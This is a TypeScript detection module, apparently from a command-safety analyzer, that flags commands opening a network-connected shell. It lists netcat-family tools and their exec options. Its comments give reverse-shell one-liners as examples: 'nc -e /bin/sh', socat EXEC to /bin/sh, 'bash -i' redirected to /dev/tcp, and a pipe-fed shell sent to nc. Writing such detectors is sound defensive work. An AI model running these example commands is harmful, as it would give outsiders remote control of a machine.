import type { Call } from "../../command/call.ts";
import { optionValues, parseOptions } from "../../command/options.ts";
import { isSocketPath } from "../../command/paths.ts";
import { fullSource, redirectionsOf } from "../command-rules.ts";
import { isInterpreter, isShell, plainName, runsWhat } from "../interpreters.ts";
import { isNetworkAddress } from "./origins.ts";

const NETCATS = /^(?:nc|ncat|netcat|nc\.(?:openbsd|traditional)|nc6|pwncat)$/;
const NETCAT = {
  values: "-e -c -p -s -w -q -i -x -X --exec --sh-exec --lua-exec --source-port",
  flags: "--listen --keep-open --verbose --ssl --udp",
};

/** True if a call connects the input and output of a shell to the network. */
export const opensShell = (call: Call): boolean => execsShell(call) || connectsShell(call) || pipesShell(call);

/** `nc -e /bin/sh`, `socat TCP:… EXEC:/bin/sh`. */
function execsShell({ program, args }: Call): boolean {
  const name = plainName(program);
  if (NETCATS.test(name)) return optionValues(parseOptions(args, NETCAT), "-e -c --exec --sh-exec").some(startsShell);
  if (name !== "socat") return false;
  const addresses = args.map(({ text }) => text);
  return addresses.some(isNetworkAddress) && addresses.some(isShellAddress);
}

const isShellAddress = (address: string): boolean =>
  /^shell\b/i.test(address) ||
  (/^(?:exec|system):/i.test(address) && hasShell(address.replace(/^\w+:/, "").split(",")[0] ?? ""));

const startsShell = ({ text }: { readonly text: string }): boolean => text.includes("\0") || hasShell(text);

/** The programs of a short command line. */
const hasShell = (text: string): boolean =>
  text
    .split(/[\s"';&|]+/)
    .some((word) => isInterpreter(word.slice(word.lastIndexOf("/") + 1)) || /^cmd(?:\.exe)?$/i.test(word));

/** `bash -i >& /dev/tcp/host/port 0>&1`. */
function connectsShell(call: Call): boolean {
  if (!isInterpreter(call.program)) return false;
  const runs = runsWhat(call);
  if (runs.kind !== "input") return false;
  const sockets = redirectionsOf(call).filter(({ target }) => isSocketPath(target.text));
  const readsOutput = /0[<>]?>?&|<&|<>/.test(fullSource(call));
  return sockets.some(({ kind, descriptor }) => readsOutput || (kind === "read" && (descriptor ?? 0) === 0));
}

/** `cat pipe | sh -i 2>&1 | nc host port > pipe`: a shell that reads from a pipe prints to the network. */
function pipesShell({ program, input }: Call): boolean {
  const isNetwork = NETCATS.test(plainName(program)) || ["telnet", "socat", "openssl"].includes(plainName(program));
  if (!isNetwork || input.kind !== "pipe") return false;
  return input.from.some(
    (from) =>
      isShell(from.program) &&
      runsWhat(from).kind === "input" &&
      from.input.kind !== "none" &&
      from.input.kind !== "text",
  );
}
